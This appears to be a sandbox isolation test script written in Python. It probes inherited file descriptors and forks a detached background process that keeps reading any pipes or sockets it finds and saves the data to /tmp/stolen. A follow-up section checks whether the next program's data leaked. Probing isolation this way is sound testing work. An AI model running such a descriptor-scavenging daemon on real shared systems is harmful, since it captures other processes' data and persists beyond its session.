# tries: to take the next program's text or its job from a pipe or socket that it inherited
# expect: success
import os
import select
import time

found = []
for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        found.append(number)
    except OSError:
        continue
if os.fork() == 0:
    os.setsid()
    while True:
        for number in found:
            try:
                data = os.read(number, 1 << 16)
                with open("/tmp/stolen", "ab") as file:
                    file.write(data)
            except OSError:
                continue
        time.sleep(0.001)
for number in found:
    try:
        if data := os.read(number, 1 << 16):
            print("LEAK: read", data[:60])
    except OSError:
        continue
# --- the next program of the session ---
import os

print("it runs, and is in nobody's hands")
if os.path.exists("/tmp/stolen"):
    print("LEAK: a stolen file")
